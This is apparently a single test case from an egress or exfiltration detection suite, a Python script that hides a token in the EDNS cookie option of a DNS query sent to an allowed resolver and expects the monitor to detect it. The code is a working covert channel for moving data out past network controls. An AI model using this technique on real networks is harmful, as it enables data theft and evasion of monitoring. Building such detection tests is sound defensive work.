#!/usr/bin/python3
# id: d38c_edns_cookie_channel
# title: data in the EDNS cookie of an allowed query
# needs: user
# expect: detect
# why: a cookie is random by nature
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    q = bytearray(dnsq(ANAME)); q[11] = 1; o = b'\0\x0a' + len(TOK).to_bytes(2, 'big') + TOK.encode(); s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(bytes(q) + b'\0\0\x29\x10\0\0\0\0\0' + len(o).to_bytes(2, 'big') + o, (ALLOW, 53)); time.sleep(.3)
attempt(f, dst=(ALLOW,), chan=('dns',))
